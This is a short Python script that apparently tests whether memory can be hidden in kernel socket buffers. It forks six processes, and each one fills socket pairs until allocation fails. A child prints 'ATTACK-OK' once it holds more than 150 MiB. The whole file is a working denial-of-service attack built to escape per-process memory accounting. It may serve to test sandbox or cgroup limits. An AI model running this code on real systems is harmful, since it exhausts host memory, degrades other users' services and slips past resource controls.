# memory in the buffers of sockets, which no process shows
import os, socket, time

for _ in range(6):
    if os.fork() == 0:
        keep, held = [], 0
        try:
            while True:
                pair = socket.socketpair()
                keep.append(pair)
                for end in pair:
                    end.setblocking(False)
                    end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
                    try:
                        while True:
                            held += end.send(b"x" * 65536)
                    except BlockingIOError:
                        pass
        except OSError:
            pass
        time.sleep(2)
        os.write(1, b"ATTACK-OK %d MiB\n" % (held >> 20) if held >> 20 > 150 else b"")
        os._exit(0)
time.sleep(5)
